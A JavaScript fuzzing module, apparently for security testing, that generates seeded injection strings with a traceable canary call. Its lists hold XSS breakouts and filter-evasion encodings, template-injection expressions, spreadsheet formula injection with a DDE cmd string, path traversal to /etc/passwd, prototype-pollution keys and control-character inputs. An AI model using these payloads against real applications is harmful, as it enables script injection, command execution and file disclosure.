// Hostile texts, from a grammar: a way out of where the text stands, something that would run or break there, and a
// disguise. Each calls `ran(NUMBER)` if it runs, and holds a word of its own, `zq` and the number, by which it is found again.
// The same number always gives the same text.

/** How a text may try to leave the attribute, element, comment, string or template it stands in. */
const exits = [
  "", '"', "'", "`", '">', "'>", '"/>', "-->", "--!>", "]]>", "*/", "?>", "%>", "}}", "\\", '\\"', "\\'", "\n\n", "\r", "\u2028", "\u2029", "\0",
  "</p>", "</a>", "</b>", "</title>", "</style>", "</script>", "</script >", "</SCRIPT/x>", "</textarea>", "</noscript>", "</template>", "</xmp>",
  "</select>", "</iframe>", "</svg>", "</math>", '"}]}</script>', "'}]}", '","x":"', "\\u0022", "\\u003c/script\\u003e", "<!--", "<!--><", "<![CDATA[", "<!--[if gte IE 4]>",
  "<?xml ", "<!doctype html>", "&quot;>", "&#34;>", "&#x3e;", "%22%3E", "%0d%0a%0d%0a", "javascript://%0a", ";", ");", "');", '");', "}", "{{", "${", "[[", "#{", "{%", "=", "=(", "@", "+", "-", "\t=",
];

const handlers = ["onerror", "onload", "ontoggle open", "onfocus autofocus tabindex=0", "onbegin", "onanimationstart", "onpointerover", "onclick", "onpageshow", "onhashchange", "oncut", "onbeforetoggle", "onscrollend"];
const elements = ["img src=x", "svg", "body", "details", "input", "video src=x", "audio src=x", "object data=x", "iframe", "marquee", "a href=x", "select", "button", "x", "p style=animation:a", "link rel=stylesheet href=x", "style", "image src=x", "svg><animate attributeName=x", "svg><set attributeName=x", "math", "form", "keygen", "textarea", "track", "embed src=x", "dialog open", "template", "base href=//elsewhere.invalid/"];
const addresses = ["javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN", "\u0001javascript:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:RUN", "javascript:'<script>RUN</script>'", "data:text/html,<script>parent.RUN</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=RUN>", "vbscript:RUN", "blob:RUN", "//elsewhere.invalid/RUN", "https:elsewhere.invalid", "\\\\elsewhere.invalid\\RUN", "view-source:javascript:RUN", "filesystem:RUN"];
const links = ["<a href=URL>", "<a href='URL' target=_blank>", '<a xlink:href="URL">', "<iframe src='URL'>", "<iframe srcdoc='<script>parent.RUN</script>'>", "<form action='URL'><button>", "<button formaction='URL'>", "<object data='URL'>", "<embed src='URL'>", "<meta http-equiv=refresh content='0;url=URL'>", "<link rel=stylesheet href='URL'>", "<base href='URL'>", "<svg><a href='URL'><text y=9>x</text></a></svg>", "<svg><use href='URL'></svg>", "<img src='URL'>", "<video poster='URL'>", "<math href='URL'>x</math>", "[words](URL)", "![words](URL)", "<URL>", "URL"];
const styles = ["<style>@import 'URL';</style>", "<style>*{background:url(URL)}</style>", "<p style=\"background:url('URL')\">", "<p style=width:expression(RUN)>", "<p style='-moz-binding:url(URL)'>", "*{}</style><script>RUN</script>", "@font-face{src:url(URL)}", "}*{display:none!important}{"];
const scripts = ["<script>RUN</script>", "<script src=URL></script>", "<script type=module>RUN</script>", "<script>RUN//", "<scr<script>ipt>RUN</scr</script>ipt>", "<script\n>RUN</script\n>", "<SCRIPT>RUN</SCRIPT>", "<svg><script>RUN</script></svg>", "<svg><script href=URL /></svg>", "<math><mtext><table><mglyph><style><img src onerror=RUN>", "<noscript><p title='</noscript><img src onerror=RUN>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>", "<template><script>RUN</script></template>", "<xmp><p title='</xmp><img src onerror=RUN>'>"];
const templates = ["{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{% RUN %}", "[[RUN]]", "{RUN}", "{{{RUN}}}", "@(RUN)", "$(RUN)", "`RUN`", "(()=>RUN)()", "eval('RUN')", "';RUN//", "\";RUN//", "\\';RUN//", "-RUN-", "*/RUN/*", "]}RUN", "{\"a\":RUN}", "new Function('RUN')()", "import('data:text/javascript,RUN')"];
const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__proto__[ran]=1", "constructor.prototype.ran=1", "then", "length", "innerHTML", "document.cookie", "null", "undefined", "NaN", "true", "0", "-0", "1e999", "../../../etc/passwd", "..\\..\\x", "C:\\x", "file:///x", "con", "index.html", ".", "..", "%00", "%2e%2e%2f", "a/b", "?x#y", "#", "&", "%", "%zz", "%u003c"];
const formulas = ["=1+RUN", "=cmd|' /C RUN'!A0", "+RUN", "-2+3+RUN", "@SUM(RUN)", "\t=RUN", "\r=RUN", "=HYPERLINK(\"URL\",\"x\")", "=IMPORTXML(\"URL\")", "\uff1dRUN", "\n=RUN", "%0A=RUN", ";=RUN", "\"=RUN"];
const controls = ["\u202eRUN", "\u2066\u202dRUN", "\u200fRUN\u200e", "\u2067RUN\u2069\u202c", "\u061cRUN", "\ufeffRUN", "\ud800RUN", "RUN\udc00", "\uffff\ufffeRUN", "\u0000RUN", "\u001b[31mRUN\u001b[0m", "\b\b\bRUN", "\u007fRUN", "\u0085RUN", "\u200b\u200c\u200dRUN", "e\u0301\u0302\u0303\u0304".repeat(40), "\u{e0041}\u{e007f}RUN", "\ufdfd\u{1242b}".repeat(30), "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(20), "\u05d0\u0628\u202eRUN", "\ufff9RUN\ufffb"];
const lengths = ["<b>".repeat(900), "\"".repeat(3000), "«".repeat(2000), "(".repeat(3000), "&amp;".repeat(800), "-".repeat(4000), "A".repeat(20_000), "<a href=x>".repeat(400), "a:(^".repeat(500), "\u202e".repeat(1000), "%".repeat(3000), "&".repeat(3000)];

const disguises = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => encodeURIComponent(text.toWellFormed?.() ?? text.replace(/[\ud800-\udfff]/g, "")),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "<\0"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t\n"),
  (text) => text.replace(/[a-z]/g, (letter, place) => (place % 2 ? letter.toUpperCase() : letter)),
  (text) => `<<${text}`,
  (text) => JSON.stringify(text),
  (text) => `\u202e${text}`,
];

/** The text of this number. */
export function payload(number) {
  const random = seeded(number);
  const one = (list) => list[Math.floor(random() * list.length)];
  const handled = () => {
    const [event, ...rest] = one(handlers).split(" ");
    return `<${[one(elements), ...rest].join(" ")} ${event}=${one(["RUN", "'RUN'", '"RUN"', "`RUN`"])}>`;
  };
  const kind = one([handled, handled, handled, () => one(links), () => one(links), () => one(styles), () => one(scripts), () => one(scripts), () => one(templates), () => one(names), () => one(formulas), () => one(controls), () => one(lengths)]);
  const text = `${one(exits)}${kind()}${random() < 0.3 ? one(exits) : ""}`;
  // The call stays as it is in every disguise that leaves letters alone; where it does not, the text breaks what it can.
  const disguised = one(disguises)(text.replaceAll("URL", one(addresses))).replaceAll("RUN", `ran(${number})`);
  // Formulas and the like work only at the very beginning, so the word by which it is found stands at either end.
  return random() < 0.5 ? `${word(number)} ${disguised}` : `${disguised} ${word(number)}`;
}

/** The word by which the text of this number is found again. */
export const word = (number) => `zq${String(number).padStart(4, "0")}`;

/** Mulberry32: numbers from 0 to 1, the same for the same seed. */
function seeded(seed) {
  let state = seed * 0x9e3779b9;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}
